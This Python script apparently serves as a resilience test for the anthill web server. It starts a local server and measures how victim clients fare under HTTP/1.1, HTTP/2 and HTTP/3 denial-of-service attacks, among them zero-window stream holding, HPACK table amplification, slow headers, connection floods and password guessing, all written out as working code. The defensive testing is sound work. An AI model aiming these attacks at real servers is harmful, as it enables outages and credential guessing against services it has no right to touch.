#!/usr/bin/env python3
"""Attacks an anthill server from one address and measures the response times of other addresses.

    tools/attacks.py BINARY [--before BINARY] [--only NAME,NAME] [--seconds 12] [--workers 1]

Each attack runs against a server of its own, in a temporary folder, on free ports of 127.0.0.1. The
attacker is 127.0.0.2. Each victim has an address of its own from 127.0.0.3 on, opens a new connection
for each request, and asks for a page of 5,100 bytes (HTTP/1.1, HTTP/2, HTTP/3, all over TLS), for a CGI
script, for a page of a git repository and, with the right password, for a guarded page: repeatedly as
one user (login), and with a new user and a new address each time (new login).

The script prints for each attack: the slowest request of each victim in milliseconds with the numbers of failed
and of all requests; the server's memory (PSS) when idle, at its highest, and some seconds after the end of the
attack; the bytes of the attacker; and the changed counters of `anthill status`.

The attacks:
  streams          HTTP/2: 200 connections x 100 GETs with a window of zero; one byte of window now and then
  streams-h3       the same over HTTP/3, by fewer connections (--h3-connections)
  slow-readers     connections that request an endless script and read one byte per second
  hpack-page       HTTP/2: 450 connections x 99 heads of 15 KiB from 8 bytes, without END_STREAM: a page
  hpack-login      the same for a guarded page, with wrong passwords
  hpack-script     the same for a script
  hpack-window     the same for a page, with a window of zero and END_STREAM
  heads            HTTP/1.1: 9,000 connections with 15 KB of an endless head
  logins           80 connections with random passwords
  silent           silent connections up to the limit `connections`, reopened after each end
  flood            HTTP/1.1: endless pipelined requests on one connection
  flood-h2         the same over HTTP/2, with a sufficient window

HTTP/3 needs aioquic, in target/tools/python (tools/setup.sh) or by --python. The rest needs only the standard
library, curl and git. The script ends only the servers that the script started.
"""
import argparse, base64, itertools, json, os, re, resource, select, shutil, signal, socket, ssl, struct, subprocess
import sys, tempfile, threading, time

HERE = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
ATTACKER = "127.0.0.2"
# Seconds that a victim waits for one response before it counts as failed.
VICTIM_SECONDS = 15
PAGE, SCRIPT, GUARDED, REPOSITORY, ENDLESS = "/page.html", "/run/hello.sh", "/guarded/page.html", "/git/demo/", "/run/endless.sh"
USER, PASSWORD = "ant", "hill"
USERS = 250
# Receive buffer of an attacking connection: the kernel then holds little data for a client that does not
# read.
RECEIVE_BUFFER_BYTES = 4096

CONFIG = """[server]
https = ["127.0.0.1:0"]
http = ["127.0.0.1:0"]
workers = {workers}
state = "state"
control = "anthill.sock"
limits = {{ connections = {connections} }}
[log]
access = "off"
[[site]]
names = ["*"]
root = "public"
http = "serve"
certificate = "cert.pem"
key = "key.pem"
[[site.route]]
path = "/run/"
cgi = "programs"
[[site.route]]
path = "/guarded/"
users = "users.htpasswd"
[[site.route]]
path = "/git/"
git = "repositories"
export = "all"
"""

PROGRAMS = {
    "hello.sh": "#!/bin/sh\nprintf 'Content-Type: text/plain\\n\\nhello\\n'\n",
    "endless.sh": "#!/bin/sh\nprintf 'Content-Type: text/plain\\n\\n'\nexec yes endless\n",
}


def run(*command, **more):
    return subprocess.run(command, check=True, capture_output=True, text=True, **more)


def furnish(folder, binary):
    """Writes the site, its certificate, its user and its repository."""
    for name in ("public/guarded", "programs", "repositories"):
        os.makedirs(f"{folder}/{name}")
    page = ("<!DOCTYPE html>\n" + "<p>the ants of the hill\n" * 300)[:5092] + "</html>\n"
    for name in (PAGE, GUARDED):
        open(f"{folder}/public{name}", "w").write(page)
    for name, text in PROGRAMS.items():
        open(f"{folder}/programs/{name}", "w").write(text)
        os.chmod(f"{folder}/programs/{name}", 0o755)
    run("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days", "30",
        "-keyout", f"{folder}/key.pem", "-out", f"{folder}/cert.pem", "-subj", "/CN=localhost",
        "-addext", "subjectAltName=DNS:localhost")
    users = f"{folder}/users.htpasswd"
    run(binary, "passwd", users, USER, input=PASSWORD + "\n")
    # More users with the same password: the server remembers a correct login for one user only.
    line = open(users).read().strip().split(":", 1)[1]
    open(users, "a").write("".join(f"{USER}{nth}:{line}\n" for nth in range(USERS)))
    work = f"{folder}/work"
    ant = ["-c", "user.name=ant", "-c", "user.email=ant@localhost"]
    run("git", "init", "-q", work)
    open(f"{work}/README.md", "w").write("# demo\n")
    run("git", "-C", work, "add", ".")
    run("git", "-C", work, *ant, "commit", "-q", "-m", "first")
    run("git", "clone", "-q", "--bare", work, f"{folder}/repositories/demo.git")


class Server:
    """A running server with its folder."""

    def __init__(self, binary, args, connections):
        self.binary = os.path.abspath(binary)
        self.folder = tempfile.mkdtemp(prefix="anthill-attacks-")
        os.chmod(self.folder, 0o755)
        furnish(self.folder, self.binary)
        self.config = f"{self.folder}/anthill.toml"
        open(self.config, "w").write(CONFIG.format(workers=args.workers, connections=connections))
        self.errors = open(f"{self.folder}/errors", "w+")
        command = [self.binary, "serve", self.config]
        self.process = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=self.errors)
        self.https, self.http = self.ports()

    def ports(self):
        for _ in range(200):
            said = open(f"{self.folder}/errors").read()
            if re.search("^ready", said, re.M):
                find = lambda scheme: int(re.search(rf"{scheme}://\S*?:(\d+)", said)[1])
                return find("https"), find("http")
            if self.process.poll() is not None:
                break
            time.sleep(0.05)
        sys.exit("the server did not start:\n" + said)

    def pss_mib(self):
        try:
            text = open(f"/proc/{self.process.pid}/smaps_rollup").read()
            return int(re.search(r"^Pss:\s+(\d+)", text, re.M)[1]) / 1024
        except (OSError, TypeError):
            return 0.0

    def anon_mib(self):
        text = open(f"/proc/{self.process.pid}/smaps_rollup").read()
        return int(re.search(r"^Pss_Anon:\s+(\d+)", text, re.M)[1]) / 1024

    def counters(self):
        told = subprocess.run([self.binary, "status", "--json", self.config], capture_output=True, text=True, timeout=60)
        return dict(numbers("", json.loads(told.stdout))) if told.returncode == 0 else {}

    def stop(self):
        self.process.terminate()
        try:
            self.process.wait(5)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait()
        shutil.rmtree(self.folder, ignore_errors=True)


def numbers(name, value):
    """Yields every number in a JSON value with its path of keys."""
    if isinstance(value, dict):
        for key, inner in value.items():
            yield from numbers(f"{name}.{key}" if name else key, inner)
    elif isinstance(value, (int, float)) and not isinstance(value, bool):
        yield name, value


# --- Victims ---------------------------------------------------------------------------------------


class Victim(threading.Thread):
    """A victim: repeats one request from one address until the end of the attack."""

    def __init__(self, name, ask, gap):
        super().__init__(daemon=True)
        self.label, self.ask, self.gap = name, ask, gap
        self.times, self.failures, self.over = [], [], threading.Event()

    def run(self):
        while not self.over.is_set():
            started = time.monotonic()
            failure = self.ask()
            self.times.append(time.monotonic() - started)
            if failure:
                self.failures.append(failure)
            self.over.wait(self.gap)

    def told(self):
        slowest = f"{max(self.times) * 1000:.0f} ms" if self.times else "-"
        failed = f" {len(self.failures)} of {len(self.times)} failed" if self.failures else f" of {len(self.times)}"
        return slowest + failed


def by_curl(address, url, *options):
    """Sends a request by curl on a new connection; returns the error, or None."""
    command = ["curl", "-sSk", "-o", "/dev/null", "-w", "%{http_code}", "--interface", address]
    command += ["--max-time", str(VICTIM_SECONDS), *options, url]

    def ask():
        done = subprocess.run(command, capture_output=True, text=True)
        return None if done.stdout == "200" else (done.stderr.strip() or done.stdout)

    return ask


def by_new_user(url):
    """Requests a guarded page by curl, each time with a new user and a new address."""
    users = itertools.cycle(range(USERS))

    def ask():
        nth = next(users)
        return by_curl(f"127.0.1.{nth + 1}", url, "--http1.1", "-u", f"{USER}{nth}:{PASSWORD}")()

    return ask


class ByQuic:
    """Sends requests over HTTP/3 by a process with aioquic: the script with `--h3 page`."""

    def __init__(self, python, address, port, path):
        command = [python, os.path.abspath(__file__), "--h3", "page", address, str(port), path]
        self.process = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)

    def __call__(self):
        try:
            self.process.stdin.write("ask\n")
            self.process.stdin.flush()
            said = self.process.stdout.readline().strip()
        except OSError as error:
            said = str(error)
        return None if said == "200" else said or "the client ended"

    def stop(self):
        self.process.kill()
        self.process.wait()


def victims(server, args):
    page = f"https://localhost:{server.https}{PAGE}"
    url = lambda path: f"https://localhost:{server.https}{path}"
    password = ["-u", f"{USER}:{PASSWORD}"]
    made = [
        Victim("page h1", by_curl("127.0.0.3", page, "--http1.1"), args.gap),
        Victim("page h2", by_curl("127.0.0.4", page, "--http2"), args.gap),
        Victim("script", by_curl("127.0.0.6", url(SCRIPT), "--http1.1"), args.gap),
        Victim("login", by_curl("127.0.0.7", url(GUARDED), "--http1.1", *password), args.gap),
        Victim("new login", by_new_user(url(GUARDED)), args.gap),
        Victim("git", by_curl("127.0.0.8", url(REPOSITORY), "--http1.1"), 4 * args.gap),
    ]
    if args.python:
        made.insert(2, Victim("page h3", ByQuic(args.python, "127.0.0.5", server.https, PAGE), args.gap))
    return made


# --- The attacker's connections --------------------------------------------------------------------

CONTEXTS = {}


def tcp(port, receive_buffer=None):
    raw = socket.socket()
    if receive_buffer:
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    # The port is chosen at connect, so that thousands of connections find one each.
    raw.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
    raw.bind((ATTACKER, 0))
    raw.settimeout(10)
    raw.connect(("127.0.0.1", port))
    return raw


def tls(port, protocol, receive_buffer=None):
    if protocol not in CONTEXTS:
        context = CONTEXTS[protocol] = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols([protocol])
    return CONTEXTS[protocol].wrap_socket(tcp(port, receive_buffer), server_hostname="localhost")


class Attack:
    """An attack: runs `begin`, then `go_on` until `over` is set, then `end`."""

    connections = 10_000

    def __init__(self, server, args):
        self.server, self.args, self.over = server, args, threading.Event()
        self.held, self.sent, self.lost, self.note = [], 0, 0, ""
        self.begun = threading.Event()

    def run(self):
        try:
            self.begin()
        except Exception as error:
            self.note = f"began in part: {error!r}"
        self.begun.set()
        while not self.over.wait(self.pause):
            self.go_on()
        self.end()

    pause = 1.0

    def begin(self):
        pass

    def go_on(self):
        pass

    def end(self):
        for connection in self.held:
            connection.close()

    def send(self, connection, data):
        """Sends bytes and counts them; drops a connection closed by the server."""
        try:
            connection.sendall(data)
            self.sent += len(data)
            return True
        except OSError:
            self.lost += 1
            return False


# --- HTTP/2 ----------------------------------------------------------------------------------------

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, WINDOW_UPDATE = 1, 3, 4, 8
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def integer(first, bits, value):
    """Encodes an HPACK integer (RFC 7541 section 5.1) behind the bits of `first`."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    made, value = [first | most], value - most
    while value >= 128:
        made.append(value & 127 | 128)
        value >>= 7
    return bytes(made + [value])


def string(value):
    return integer(0, 7, len(value)) + value


def indexed(index):
    return integer(0x80, 7, index)


def literal(name, value, index=False):
    """Encodes a field with a name of the static table (a number) or a new name (bytes)."""
    first, bits = (0x40, 6) if index else (0, 4)
    named = integer(first, bits, name) if isinstance(name, int) else integer(first, bits, 0) + string(name)
    return named + string(value)


def settings(window=None):
    return frame(SETTINGS, 0, 0, struct.pack("!HI", INITIAL_WINDOW_SIZE, window) if window is not None else b"")


# :method GET and :scheme https are 2 and 7 of the static table, :authority and :path 1 and 4.
def get(path):
    return indexed(2) + indexed(7) + literal(1, b"localhost") + literal(4, path.encode())


class Streams(Attack):
    """Holds a worker's share of streams by windows of zero. `--hold 25` grants bytes as slowly as possible."""

    count, streams = 200, 100

    def begin(self):
        for _ in range(self.count):
            connection = tls(self.server.https, "h2", RECEIVE_BUFFER_BYTES)
            asked = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 2 * nth + 1, get(PAGE)) for nth in range(self.streams))
            self.send(connection, PREFACE + settings(0) + asked)
            self.held.append(connection)
        self.dripped = time.monotonic()

    def go_on(self):
        if time.monotonic() - self.dripped < self.args.hold:
            return
        self.dripped = time.monotonic()
        for connection in list(self.held):
            grants = b"".join(frame(WINDOW_UPDATE, 0, 2 * nth + 1, struct.pack("!I", 1)) for nth in range(self.streams))
            if not self.send(connection, grants):
                self.held.remove(connection)


class Hpack(Attack):
    """Puts a large field into each dynamic table, and sends heads with four references to the field."""

    count, streams, path = 450, 99, PAGE
    window, flags, wrong_password = None, END_HEADERS, False
    # Four times the value and the other fields stay below the limit of 16 KiB for a head.
    large = b"x" * 3_850

    def begin(self):
        for nth in range(self.count):
            connection = tls(self.server.https, "h2", RECEIVE_BUFFER_BYTES)
            first = indexed(2) + indexed(7) + literal(b"x", self.large, True)
            first += literal(1, b"localhost", True) + literal(4, self.path.encode(), True)
            rest = b""
            if self.wrong_password:
                wrong = base64.b64encode(f"{USER}:{nth}".encode())
                # Index 23 of the static table is `authorization`.
                first += literal(23, b"Basic " + wrong, True)
                rest = indexed(62)
            # The newest entry has index 62; earlier entries have higher indexes.
            at = 62 + len(rest)
            block = indexed(2) + indexed(7) + indexed(at + 1) + indexed(at) + rest + indexed(at + 2) * 4
            asked = b"".join(frame(HEADERS, self.flags, 2 * n + 3, block) for n in range(self.streams))
            self.send(connection, PREFACE + settings(self.window) + frame(HEADERS, self.flags, 1, first) + asked)
            self.held.append(connection)


class HpackLogin(Hpack):
    path, wrong_password = GUARDED, True


class HpackScript(Hpack):
    path = SCRIPT


class HpackWindow(Hpack):
    window, flags = 0, END_HEADERS | END_STREAM


class Flood(Attack):
    """Sends requests on one connection without waiting; a thread reads and discards the responses."""

    pause, protocol = 0.0, "http/1.1"

    def begin(self):
        self.connection = tls(self.server.https, self.protocol)
        self.connection.settimeout(None)
        self.held.append(self.connection)
        self.open()
        # ssl.SSLSocket is not safe for two threads, so one loop writes and reads through memory.
        self.connection.setblocking(False)

    def open(self):
        self.pending = b""

    def more(self):
        return f"GET {PAGE} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode() * 400

    def go_on(self):
        for _ in range(50):
            if not self.pending:
                self.pending = self.more()
            try:
                wrote = self.connection.send(self.pending[:16384])
                self.sent += wrote
                self.pending = self.pending[wrote:]
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                pass
            except OSError:
                self.lost += 1
                self.over.wait(0.1)
                return self.begin()
            try:
                while self.connection.recv(1 << 20):
                    pass
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                pass
            except OSError:
                self.lost += 1
                return self.begin()


class FloodH2(Flood):
    protocol = "h2"

    def open(self):
        self.pending = b""
        self.next = 1
        self.connection.sendall(PREFACE + settings(1 << 20) + frame(WINDOW_UPDATE, 0, 0, struct.pack("!I", (1 << 31) - 1 - 65535)))

    def more(self):
        # A HEAD has no body, so windows and streams are free again at once.
        block = literal(2, b"HEAD") + indexed(7) + literal(1, b"localhost") + literal(4, PAGE.encode())
        begin, self.next = self.next, self.next + 200
        return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, begin + 2 * nth, block) for nth in range(100))


# --- HTTP/1.1 --------------------------------------------------------------------------------------


class SlowReaders(Attack):
    """Opens more readers of an endless script than the limit of scripts."""

    def begin(self):
        for _ in range(self.args.readers):
            connection = tls(self.server.https, "http/1.1", RECEIVE_BUFFER_BYTES)
            connection.settimeout(0.01)
            self.held.append(connection)
            self.send(connection, f"GET {ENDLESS} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode())

    def go_on(self):
        for connection in list(self.held):
            try:
                connection.recv(1)
            except TimeoutError:
                continue
            except OSError:
                self.lost += 1
                self.held.remove(connection)


class Heads(Attack):
    """Sends heads of 15 KB without an end, on plain connections."""

    def begin(self):
        head = f"GET {PAGE} HTTP/1.1\r\nHost: localhost\r\n".encode()
        head += b"".join(b"X-%d: %s\r\n" % (nth, b"x" * 990) for nth in range(15))
        for _ in range(self.args.heads):
            connection = tcp(self.server.http)
            self.held.append(connection)
            self.send(connection, head)


class Logins(Attack):
    """Sends random passwords, each as soon as the last is refused."""

    def begin(self):
        self.tries, self.statuses = itertools.count(), {}
        self.threads = [threading.Thread(target=self.try_on, daemon=True) for _ in range(80)]
        for thread in self.threads:
            thread.start()

    def try_on(self):
        while not self.over.is_set():
            try:
                connection = tls(self.server.https, "http/1.1")
                self.ask(connection)
            except OSError:
                self.lost += 1
                self.over.wait(0.2)

    def ask(self, connection):
        connection.settimeout(30)
        with connection:
            while not self.over.is_set():
                guess = base64.b64encode(f"{USER}:{os.urandom(6).hex()}".encode()).decode()
                asked = f"GET {GUARDED} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Basic {guess}\r\n\r\n".encode()
                connection.sendall(asked)
                self.sent += len(asked)
                next(self.tries)
                got = b""
                while b"\r\n\r\n" not in got:
                    came = connection.recv(65536)
                    if not came:
                        return
                    got += came
                status = got[9:12].decode()
                self.statuses[status] = self.statuses.get(status, 0) + 1
                # Refusals without a password hash would only load the processor of the script.
                if status != "401":
                    self.over.wait(0.05)

    def end(self):
        self.note = f"{next(self.tries)} guesses, {self.statuses}"


class Silent(Attack):
    """Opens silent connections, and opens a closed connection again."""

    pause = 0.2

    def begin(self):
        self.poll = select.epoll()
        self.open = {}
        self.connections = self.args.silent
        self.fill()

    def fill(self):
        while len(self.open) < self.connections and not self.over.is_set():
            connection = socket.socket()
            connection.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
            connection.setblocking(False)
            connection.bind((ATTACKER, 0))
            connection.connect_ex(("127.0.0.1", self.server.https))
            self.open[connection.fileno()] = connection
            self.poll.register(connection, select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR)
            # The kernel's queue of new connections is short.
            if len(self.open) % 500 == 0:
                time.sleep(0.02)

    def go_on(self):
        for descriptor, _ in self.poll.poll(0, 10_000):
            self.open.pop(descriptor).close()
            self.lost += 1
        self.fill()

    def end(self):
        for connection in self.open.values():
            connection.close()


# --- HTTP/3 ----------------------------------------------------------------------------------------


class StreamsH3(Attack):
    """Streams over HTTP/3, by a process with aioquic: the script with `--h3 streams`."""

    def begin(self):
        command = [self.args.python, os.path.abspath(__file__), "--h3", "streams", ATTACKER, str(self.server.https), PAGE]
        command += [str(self.args.h3_connections), str(self.args.hold)]
        self.process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
        self.note = self.process.stdout.readline().strip()

    def end(self):
        self.process.kill()
        self.process.wait()


def h3(what, address, port, path, *more):
    """Runs the part of the script under the Python with aioquic."""
    import asyncio
    from aioquic.asyncio.protocol import QuicConnectionProtocol
    from aioquic.h3.connection import H3_ALPN, H3Connection
    from aioquic.h3.events import HeadersReceived
    from aioquic.quic.configuration import QuicConfiguration
    from aioquic.quic.connection import QuicConnection
    from aioquic.quic.events import ConnectionTerminated

    # A page without a known length serves as well.
    head = [(b":method", b"GET"), (b":scheme", b"https"), (b":authority", b"localhost"), (b":path", path.encode())]

    class Client(QuicConnectionProtocol):
        def __init__(self, *arguments):
            super().__init__(*arguments)
            self.http, self.status = H3Connection(self._quic), ""
            self.over = asyncio.Event()

        def quic_event_received(self, event):
            if isinstance(event, ConnectionTerminated):
                self.status = self.status or f"ended: {event.reason_phrase} {event.error_code:#x}"
                self.over.set()
            for came in self.http.handle_event(event):
                if isinstance(came, HeadersReceived):
                    self.status = dict(came.headers)[b":status"].decode()
                if getattr(came, "stream_ended", False):
                    self.over.set()

        def ask(self):
            stream = self._quic.get_next_available_stream_id()
            self.http.send_headers(stream, head, end_stream=True)

    async def begin(window):
        configuration = QuicConfiguration(is_client=True, alpn_protocols=H3_ALPN, server_name="localhost")
        configuration.verify_mode = ssl.CERT_NONE
        configuration.max_stream_data = 1 << 20
        quic = QuicConnection(configuration=configuration)
        # Only windows of responses are limited: a server without a control stream gives up.
        quic._local_max_stream_data_bidi_local = window
        loop = asyncio.get_running_loop()
        _, client = await loop.create_datagram_endpoint(lambda: Client(quic), local_addr=(address, 0))
        client.connect(("127.0.0.1", int(port)))
        await asyncio.wait_for(client.wait_connected(), VICTIM_SECONDS)
        return client

    async def page():
        loop = asyncio.get_running_loop()
        while await loop.run_in_executor(None, sys.stdin.readline):
            client = None
            try:
                client = await begin(1 << 20)
                client.ask()
                client.transmit()
                await asyncio.wait_for(client.over.wait(), VICTIM_SECONDS)
                said = client.status
            except (OSError, TimeoutError, asyncio.TimeoutError) as error:
                said = repr(error)
            if client:
                client.close()
                await asyncio.sleep(0)
                client._transport.close()
            print(said, flush=True)

    async def streams(connections, hold):
        # aioquic extends a window once half of the window is used; the attack grants one byte at a time.
        widen = QuicConnection._write_stream_limits

        def as_granted(quic, builder, space, stream):
            granted, stream.receiver.highest_offset = stream.receiver.highest_offset, 0
            widen(quic, builder=builder, space=space, stream=stream)
            stream.receiver.highest_offset = granted

        QuicConnection._write_stream_limits = as_granted
        clients = []
        for _ in range(int(connections)):
            try:
                client = await begin(0)
            except (OSError, TimeoutError, asyncio.TimeoutError):
                break
            for _ in range(100):
                client.ask()
            client.transmit()
            clients.append(client)
        print(f"{len(clients)} connections", flush=True)
        while True:
            await asyncio.sleep(float(hold))
            for client in clients:
                for stream in client._quic._streams.values():
                    if stream.stream_id % 4 == 0:
                        stream.max_stream_data_local += 1
                client.transmit()
                await asyncio.sleep(0)

    asyncio.run({"page": page, "streams": streams}[what](*more))


# --- The run ---------------------------------------------------------------------------------------

ATTACKS = {
    "streams": Streams,
    "streams-h3": StreamsH3,
    "slow-readers": SlowReaders,
    "hpack-page": Hpack,
    "hpack-login": HpackLogin,
    "hpack-script": HpackScript,
    "hpack-window": HpackWindow,
    "heads": Heads,
    "logins": Logins,
    "silent": Silent,
    "flood": Flood,
    "flood-h2": FloodH2,
}


def attack(name, binary, label, args):
    connections = args.silent if name == "silent" else Attack.connections
    server = Server(binary, args, connections)
    others, helpers = [], []
    try:
        others = victims(server, args)
        helpers = [victim.ask for victim in others if isinstance(victim.ask, ByQuic)]
        # Each victim sends one request first, since the first load and the first login take longer.
        for victim in others:
            victim.ask()
        # The server has released the memory of the victims' first requests after two seconds.
        time.sleep(2)
        idle, before = server.pss_mib(), server.counters()
        peak = [idle]
        under_attack = ATTACKS[name](server, args)
        attacking = threading.Thread(target=under_attack.run, daemon=True)
        attacking.start()
        until = time.monotonic() + args.patience
        while not under_attack.begun.is_set() and time.monotonic() < until:
            peak.append(server.pss_mib())
            time.sleep(0.1)
        for victim in others:
            victim.start()
        until = time.monotonic() + args.seconds
        while time.monotonic() < until:
            peak.append(server.pss_mib())
            time.sleep(0.1)
        for victim in others:
            victim.over.set()
        for victim in others:
            victim.join(VICTIM_SECONDS + 5)
        counted = server.counters()
        under_attack.over.set()
        attacking.join(30)
        time.sleep(args.after)
        after = server.pss_mib()
        anon = server.anon_mib()
    finally:
        for helper in helpers:
            helper.stop()
        server.stop()
    moved = {key: value - before.get(key, 0) for key, value in counted.items() if value != before.get(key, 0)}
    tell(name, label, others, (idle, max(peak), after, anon), under_attack, moved)


def tell(name, label, others, memory, under_attack, moved):
    print(f"\n{name} · {label}")
    for victim in others:
        first = f"   first failure: {victim.failures[0]}" if victim.failures else ""
        print(f"    {victim.label:10} slowest {victim.told()}{first}")
    print("    memory     idle %.1f MiB, peak %.1f MiB, after %.1f MiB (%.1f MiB without the program's code)" % memory)
    print(f"    attacker   sent {under_attack.sent / 1e6:.2f} MB, {under_attack.lost} connections lost. {under_attack.note}")
    shown = [f"{key} {value:,}" for key, value in moved.items() if value and not re.search("seconds|bytes|latency|percent", key)]
    print("    status     " + ", ".join(shown), flush=True)


def main():
    if sys.argv[1:2] == ["--h3"]:
        return h3(*sys.argv[2:])
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("binary")
    parser.add_argument("--before", help="another binary to attack in the same way")
    parser.add_argument("--only", help="names of attacks, separated by commas")
    parser.add_argument("--seconds", type=float, default=12, help="seconds of victims' requests under attack")
    parser.add_argument("--after", type=float, default=6, help="seconds between the attack's end and the last measurement of memory")
    parser.add_argument("--patience", type=float, default=60, help="seconds that an attack may take to begin")
    parser.add_argument("--gap", type=float, default=0.2, help="seconds between two requests of a victim")
    parser.add_argument("--workers", type=int, default=1)
    parser.add_argument("--hold", type=float, default=4, help="seconds between two grants of one byte")
    parser.add_argument("--readers", type=int, default=32)
    parser.add_argument("--heads", type=int, default=9_000)
    parser.add_argument("--silent", type=int, default=10_000)
    parser.add_argument("--h3-connections", type=int, default=200)
    parser.add_argument("--python", default=f"{HERE}/target/tools/python/bin/python", help="a Python with aioquic; empty: no HTTP/3")
    args = parser.parse_args()
    names = args.only.split(",") if args.only else list(ATTACKS)
    unknown = [name for name in names if name not in ATTACKS]
    if unknown:
        sys.exit(f"unknown attack: {', '.join(unknown)}. Known are {', '.join(ATTACKS)}")
    if args.python and not os.path.exists(args.python):
        print(f"without HTTP/3: {args.python} is missing (tools/setup.sh test installs it)")
        args.python = ""
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    # On SIGTERM the script ends its server too.
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(1))
    builds = [(args.binary, "this build")] + ([(args.before, "before")] if args.before else [])
    for name in names:
        if name == "streams-h3" and not args.python:
            continue
        for binary, label in builds:
            attack(name, binary, label, args)


if __name__ == "__main__":
    main()
